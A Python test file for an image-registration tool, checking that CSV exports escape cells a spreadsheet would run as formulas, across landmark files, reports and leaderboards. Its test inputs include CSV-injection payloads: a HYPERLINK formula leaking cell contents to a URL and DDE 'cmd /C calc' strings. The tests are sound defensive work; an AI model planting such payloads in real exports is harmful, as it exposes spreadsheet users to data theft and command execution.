"""Cells of CSV files: a name that a spreadsheet would run as a formula is made harmless, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest

import warpgauge as wg
from command_tools import call
from project.tools import grid_points, place, query, write_images
from study_tools import make_study
from warpgauge.display import csv_cell_text, csv_text
from warpgauge.io.landmarks import read_landmarks, write_landmarks
from warpgauge.io.transforms import AffineTransform, write_transform
from warpgauge.project import Project
from warpgauge.study import run_study

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@x",
    "\uff1d1+1", "=1\nb",
]  # fmt: skip
FINE = ["-1.5", "+3", "-1e-05", "-inf", "-", "=", "a=b", "'quoted'", "x-1", "", "nan", "1,5"]


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula: by its first sign, and not a number."""
    try:
        float(cell)
    except ValueError:
        return len(cell) > 1 and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_become_text_and_come_back(text: str) -> None:
    """What is written does not run, and reading returns the name."""
    (written,) = cells(csv_text([[text]], quote_all=True))
    assert not runs(written)
    assert csv_cell_text(written) == text


@pytest.mark.parametrize("text", FINE)
def test_other_text_and_numbers_are_written_as_they_are(text: str) -> None:
    """Negative numbers, also as text, are not touched."""
    assert cells(csv_text([[text]], quote_all=True)) == [text]
    assert csv_cell_text(text) == text


def test_numbers_keep_their_digits() -> None:
    """Also numpy's, and negative ones."""
    values = [-0.1, np.float64(-1 / 3), 1e-300, -7, None]
    assert cells(csv_text([values])) == ["-0.1", repr(-1 / 3), "1e-300", "-7", ""]


@pytest.mark.parametrize("name", ["csv", "bigwarp", "anhir", "napari"])
def test_landmark_files(name: str, tmp_path: Path) -> None:
    """Names of landmarks in the files of each program."""
    points = np.array([[-1.0, 2.0], [3.0, -4.5]])
    given = {"names": ("=1+1", "@x")} if name in ("csv", "bigwarp") else {}
    marks = wg.Landmarks(points, points + 1 if name in ("csv", "bigwarp") else None, **given)
    file = tmp_path / "a.csv"
    write_landmarks(marks, file, format=name)
    assert not any(runs(cell) for cell in cells(file.read_text()))
    if given:
        assert read_landmarks(file, format=name).names == ("=1+1", "@x")


def test_tables_of_evaluation_report_and_leaderboard(tmp_path: Path) -> None:
    """Through the commands: names of transforms and raters that are formulas run in no table."""
    fixed, moving = write_images(tmp_path / "pictures")
    write_transform(AffineTransform(np.eye(2), [1.0, 0.5]), tmp_path / "one.tfm")
    with Project.create(tmp_path / "project", fixed=fixed, moving=moving, candidates=grid_points()) as project:
        for number, (x, y) in enumerate(grid_points(3, 3)):
            rater = "=HYPERLINK(1)"
            project.append(query(number, (x, y), rater, name="@SUM(1)"), place(number, (x + 1, y), rater))
        project.add_transform('=cmd|"/C calc"!A0', tmp_path / "one.tfm")
    aim = tmp_path / "project"
    call("export", aim, tmp_path / "marks.csv")
    call("report", aim, "--no-maps")
    study = make_study(tmp_path, pairs=1)
    study.write_text(
        study.read_text().replace('name = "near"', 'name = "=1+1"').replace("{method}/{pair}", "near/{pair}")
    )

    texts = [run_study(study, tmp_path / "results").to_csv()]
    texts += [path.read_text() for path in (tmp_path / "marks.csv",)]
    texts += [path.read_text() for path in (aim / "report").glob("*.csv")]
    assert len(texts) == 3
    for text in texts:
        assert not [cell for cell in cells(text) if runs(cell)]
